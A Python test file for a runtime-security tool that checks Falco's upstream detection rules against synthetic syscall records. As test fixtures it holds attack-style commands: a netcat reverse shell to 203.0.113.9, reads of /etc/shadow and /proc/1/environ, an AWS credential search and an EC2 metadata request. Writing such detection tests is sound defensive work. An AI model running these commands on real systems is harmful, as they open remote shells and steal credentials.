"""Falco's upstream syscall rule files on runtime records: they load unchanged, every rule whose fields are all
provided compiles and runs, and the upstream rules fire (and stay quiet) on records as the sensor writes them.

The lists below are the reference of what runs: a change in the fields (or in the upstream files) shows here.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path
from typing import Any

import pytest
from tests.datasets import DATASETS, needs
from tests.syscall_records import (
    APP_LINEAGE,
    CONTAINERD_SHIM,
    O_CREAT,
    O_RDONLY,
    O_RDWR,
    O_TRUNC,
    O_WRONLY,
    SHELL,
    UVICORN,
    Proc,
    connect,
    event,
    execve,
    openat,
    setuid,
)

from jackwatch.normalize.asn import AsnDb
from jackwatch.rules.engine import Engine, Trigger, compile_ruleset
from jackwatch.rules.fields.syscall import CAPTURED_TYPES, UNAVAILABLE
from jackwatch.rules.loader import LoadResult, load_rules, load_texts
from jackwatch.rules.sources import SourceRegistry, default_registry

RULES = DATASETS / "falco-rules" / "rules"
STABLE = RULES / "falco_rules.yaml"
INCUBATING = RULES / "falco-incubating_rules.yaml"
SANDBOX = RULES / "falco-sandbox_rules.yaml"

pytestmark = needs(RULES)

NOT_EVALUATED = {
    "falco_rules.yaml": {
        "Linux Kernel Module Injection Detected": ["thread.cap_effective"],
        "Debugfs Launched in Privileged Container": ["container.privileged"],
        "Detect release_agent File Container Escapes": ["thread.cap_effective"],
    },
    "falco-incubating_rules.yaml": {
        "Change namespace privileges via unshare": ["thread.cap_permitted"],
        "Launch Privileged Container": ["container.privileged"],
        "Launch Excessively Capable Container": ["thread.cap_permitted"],
        "Program run with disallowed http proxy env": ["proc.env"],
        "Mount Launched in Privileged Container": ["container.privileged"],
        "Potential Local Privilege Escalation via Environment Variables Misuse": ["proc.env"],
    },
    "falco-sandbox_rules.yaml": {
        "Unexpected inbound connection source": ["fd.cip.name"],
        "Launch Sensitive Mount Container": ["container.mount.dest"],
        "Java Process Class File Download": ["evt.buffer"],
        "Basic Interactive Reconnaissance": ["proc.is_vpgid_leader"],
    },
}
"""Rules that load but are not evaluated, with the fields jackwatch does not provide that they use."""

NOT_CAPTURED = {
    "falco_rules.yaml": [
        "Create Symlink Over Sensitive Files",
        "Create Hardlink Over Sensitive Files",
        "Packet socket created in container",
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "PTRACE attached to process",
        "PTRACE anti-debug attempt",
    ],
    "falco-incubating_rules.yaml": ["Change thread namespace", "Set Setuid or Setgid bit", "BPF Program Not Profiled"],
    "falco-sandbox_rules.yaml": [
        "Modify binary dirs",
        "Mkdir binary dirs",
        "Interpreted procs inbound network activity",
        "Container Drift Detected (chmod)",
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
    ],
}
"""Rules that run but only on event types the sensor does not capture (symlink, ptrace, chmod…): they never fire."""

RUNNING = {"falco_rules.yaml": 16, "falco-incubating_rules.yaml": 22, "falco-sandbox_rules.yaml": 28}
"""How many rules of each file run on captured event types."""


@cache
def registry() -> SourceRegistry:
    return default_registry(AsnDb.load())


@cache
def loaded(*paths: Path) -> LoadResult:
    return load_rules(paths, registry())


@pytest.mark.parametrize("path", [STABLE, INCUBATING, SANDBOX], ids=lambda path: path.name)
def test_what_runs_and_what_does_not(path: Path) -> None:
    result = loaded(path)
    assert result.errors == [], [str(error) for error in result.errors]
    rules = result.ruleset.rules
    not_evaluated = {rule.name: rule.unsupported for rule in rules if rule.unsupported}
    expected = NOT_EVALUATED[path.name]
    assert not_evaluated == {
        name: f"uses field(s) jackwatch does not provide: {', '.join(fields)}" for name, fields in expected.items()
    }
    fields = sorted({field for names in expected.values() for field in names})
    warning = f"{len(expected)} rules of source 'syscall' use fields jackwatch does not provide ({', '.join(fields)})"
    assert [str(w) for w in result.warnings if warning in str(w)], [str(w) for w in result.warnings]
    syscall = registry().get("syscall")
    assert syscall is not None
    evaluated = [rule for rule in rules if not rule.unsupported]
    triggers = {rule.name: Trigger.of(rule.node, syscall.fields).names for rule in evaluated}
    assert all(names is not None for names in triggers.values())  # every rule is indexed by event type
    never_met = [name for name, names in triggers.items() if not (names or set()) & set(CAPTURED_TYPES)]
    assert never_met == NOT_CAPTURED[path.name]
    assert len(evaluated) - len(never_met) == RUNNING[path.name]


def test_the_three_files_together_compile() -> None:
    result = loaded(STABLE, INCUBATING, SANDBOX)
    assert result.errors == []
    compiled = compile_ruleset(result.ruleset, registry())
    enabled = [rule.id for rule in result.ruleset.rules if rule.enabled and not rule.unsupported]
    assert [rule.id for rule in compiled.rules] == enabled
    assert len(enabled) == 70


ENABLE_HIDDEN_FILES = "- rule: Create Hidden Files or Directories\n  enabled: true\n"


@cache
def engine_rules() -> Any:
    """The three files in order, then a file enabling the sandbox's (disabled) hidden-file rule."""
    documents = [(str(path), path.read_text()) for path in (STABLE, INCUBATING, SANDBOX)]
    result = load_texts([*documents, ("enable.yaml", ENABLE_HIDDEN_FILES)], registry())
    assert result.errors == []
    return compile_ruleset(result.ruleset, registry())


def fired(raw: dict[str, Any]) -> set[str]:
    """The upstream rules a record makes fire."""
    return {match.rule.spec.name for match in Engine(engine_rules()).process(event(raw))}


CAT = Proc(5000, "cat", ["/etc/shadow"], "/usr/bin/cat", ppid=4242)
INTRUDER = (SHELL, *APP_LINEAGE)
"""A shell the exploited app started, and the app above it."""


def test_read_sensitive_file_untrusted() -> None:
    rule = "Read sensitive file untrusted"
    assert rule in fired(openat(CAT, "/etc/shadow", parents=INTRUDER))
    assert rule in fired(openat(CAT.but(args=["/etc/sudoers.d/90-app"]), "/etc/sudoers.d/90-app", parents=INTRUDER))
    assert rule in fired(openat(CAT, "/etc/shadow", parents=INTRUDER, container=None))
    assert rule not in fired(openat(CAT, "/etc/hosts", parents=INTRUDER))
    assert rule not in fired(openat(CAT, "/etc/shadow", parents=INTRUDER, res=-13))  # a failed open reads nothing
    assert rule not in fired(openat(CAT, "/etc/shadow", O_WRONLY, parents=INTRUDER))
    sshd = Proc(900, "sshd", ["-D"], "/usr/sbin/sshd")
    assert rule not in fired(openat(sshd, "/etc/shadow", parents=[]))


def test_terminal_shell_in_container() -> None:
    rule = "Terminal shell in container"
    exec_shell = Proc(4300, "bash", [], "/usr/bin/bash", "bash", ppid=812, tty=34816)
    assert rule in fired(execve(exec_shell, [CONTAINERD_SHIM]))  # kubectl exec -it … -- bash
    assert rule not in fired(execve(exec_shell.but(tty=0), [CONTAINERD_SHIM]))
    assert rule not in fired(execve(exec_shell, [CONTAINERD_SHIM], container=None))  # container.id is host
    assert rule not in fired(execve(exec_shell.but(ppid=4100), APP_LINEAGE))  # the app's child: not an entrypoint


def test_write_below_etc() -> None:
    rule = "Write below etc"
    vi = Proc(5001, "vi", ["/etc/hosts"], "/usr/bin/vi", ppid=4242)
    assert rule in fired(openat(vi, "/etc/hosts", O_WRONLY | O_TRUNC, parents=INTRUDER))
    assert rule in fired(openat(vi, "/etc/ld.so.preload", O_RDWR | O_CREAT, parents=INTRUDER))
    assert rule not in fired(openat(vi, "/etc/hosts", O_RDONLY, parents=INTRUDER))
    assert rule not in fired(openat(vi, "/tmp/hosts", O_WRONLY, parents=INTRUDER))
    dpkg = Proc(5002, "dpkg", ["-i", "curl.deb"], "/usr/bin/dpkg", ppid=4242)
    assert rule not in fired(openat(dpkg, "/etc/hosts", O_WRONLY, parents=INTRUDER))


def test_create_hidden_files_once_enabled() -> None:
    rule = "Create Hidden Files or Directories"
    touch = Proc(5003, "touch", ["/app/.cache-x"], "/usr/bin/touch", ppid=4242)
    assert rule in fired(openat(touch, "/app/.cache-x", O_WRONLY | O_CREAT, parents=INTRUDER, mode=0o644))
    assert rule not in fired(openat(touch, "/app/.cache-x", O_WRONLY, parents=INTRUDER))
    assert rule not in fired(openat(touch, "/app/cache-x", O_WRONLY | O_CREAT, parents=INTRUDER, mode=0o644))
    disabled = compile_ruleset(loaded(SANDBOX).ruleset, registry())
    raw = openat(touch, "/app/.cache-x", O_WRONLY | O_CREAT, parents=INTRUDER, mode=0o644)
    assert rule not in {match.rule.spec.name for match in Engine(disabled).process(event(raw))}


def test_netcat_remote_code_execution_in_container() -> None:
    rule = "Netcat Remote Code Execution in Container"
    nc = Proc(5004, "nc", ["-e", "/bin/sh", "203.0.113.9", "4444"], "/usr/bin/nc.traditional", "nc", ppid=4242)
    assert rule in fired(execve(nc, INTRUDER))
    assert rule not in fired(execve(nc.but(args=["-z", "db", "5432"]), INTRUDER))
    assert rule not in fired(execve(nc, INTRUDER, container=None))


def test_drop_and_execute_new_binary_in_container() -> None:
    rule = "Drop and execute new binary in container"
    dropped = Proc(5005, "kworkerds", [], "/tmp/.x/kworkerds", "./kworkerds", ppid=4242, cwd="/tmp/.x")
    assert rule in fired(execve(dropped.but(extra={"exe_upper_layer": True}), INTRUDER))
    assert rule not in fired(execve(dropped.but(extra={"exe_upper_layer": False}), INTRUDER))
    assert rule not in fired(execve(dropped, INTRUDER))  # the sensor could not tell
    assert rule not in fired(execve(dropped.but(extra={"exe_upper_layer": True}), INTRUDER, container=None))


def test_run_shell_untrusted_looks_at_every_ancestor() -> None:
    rule = "Run shell untrusted"
    nginx = Proc(300, "nginx", ["-g", "daemon off;"], "/usr/sbin/nginx", ppid=812)
    php = Proc(301, "php-fpm8.2", [], "/usr/sbin/php-fpm8.2", ppid=300)
    shell = SHELL.but(ppid=301)
    assert rule in fired(execve(shell, [php, nginx, CONTAINERD_SHIM]))  # nginx is the grandparent
    dpkg = Proc(302, "dpkg", ["--configure", "-a"], "/usr/bin/dpkg", ppid=301)
    assert rule not in fired(execve(shell.but(ppid=302), [dpkg, php, nginx]))  # run by a package manager
    assert rule not in fired(execve(shell, [php, CONTAINERD_SHIM]))


def test_contact_ec2_instance_metadata_service_from_container() -> None:
    rule = "Contact EC2 Instance Metadata Service From Container"
    curl = Proc(5006, "curl", ["-s", "http://169.254.169.254/latest/meta-data/iam/"], "/usr/bin/curl", ppid=4242)
    assert rule in fired(connect(curl, "169.254.169.254", 80, INTRUDER))
    assert rule not in fired(connect(curl, "169.254.169.254", 80, INTRUDER, container=None))
    assert rule not in fired(connect(curl, "10.96.0.10", 53, INTRUDER))


def test_find_aws_credentials_and_read_environment_from_proc() -> None:
    find = Proc(5007, "find", ["/", "-path", "*/.aws/credentials"], "/usr/bin/find", ppid=4242)
    assert "Find AWS Credentials" in fired(execve(find, INTRUDER))
    assert "Find AWS Credentials" not in fired(execve(find.but(args=["/app", "-name", "*.py"]), INTRUDER))
    environ = "Read environment variable from /proc files"
    assert environ in fired(openat(CAT.but(args=["/proc/1/environ"]), "/proc/1/environ", parents=INTRUDER))
    assert environ not in fired(openat(CAT.but(args=["/proc/1/status"]), "/proc/1/status", parents=INTRUDER))


def test_non_sudo_setuid_reads_the_target_user() -> None:
    rule = "Non sudo setuid"
    worker = Proc(5008, "python3", ["exploit.py"], "/usr/bin/python3.11", uid=1000, ppid=4242)
    assert rule in fired(setuid(worker, 0, INTRUDER))
    nobody = worker.but(uid=65534)
    assert rule not in fired(setuid(nobody, 65534, INTRUDER))  # somebody becoming themselves: evt.arg.uid=nobody
    assert rule not in fired(setuid(worker.but(uid=0), 1000, INTRUDER))  # root dropping privileges


def test_quiet_on_the_apps_own_work() -> None:
    """The app reading its code and models, calling an LLM API and starting its workers fires nothing."""
    assert fired(openat(UVICORN, "/app/main.py", parents=[CONTAINERD_SHIM])) == set()
    assert fired(openat(UVICORN, "/usr/local/lib/python3.11/site-packages/openai/__init__.py", parents=[])) == set()
    assert fired(connect(UVICORN, "162.159.140.245", 443, [CONTAINERD_SHIM], dns="api.openai.com")) == set()
    worker = UVICORN.but(pid=4101, ppid=4100, vpid=2)
    assert fired(execve(worker, [UVICORN, CONTAINERD_SHIM])) == set()


def test_the_falco_page_lists_what_runs() -> None:
    page = (Path(__file__).resolve().parents[2] / "docs" / "falco.md").read_text(encoding="utf-8")
    flat = " ".join(page.split())
    for path in (STABLE, INCUBATING, SANDBOX):
        rules = loaded(path).ruleset.rules
        skipped = len(NOT_EVALUATED[path.name])
        never = len(NOT_CAPTURED[path.name])
        assert f"| `{path.name}`" in page
        assert f"| {len(rules)} | {RUNNING[path.name]} | {never} | {skipped} |" in page, path.name
        for name, fields in NOT_EVALUATED[path.name].items():
            assert f"{name} ({', '.join(f'`{field}`' for field in fields)})" in flat, name
        for name in NOT_CAPTURED[path.name]:
            assert name in flat, name
    for field in UNAVAILABLE:
        assert f"`{field}`" in page, field
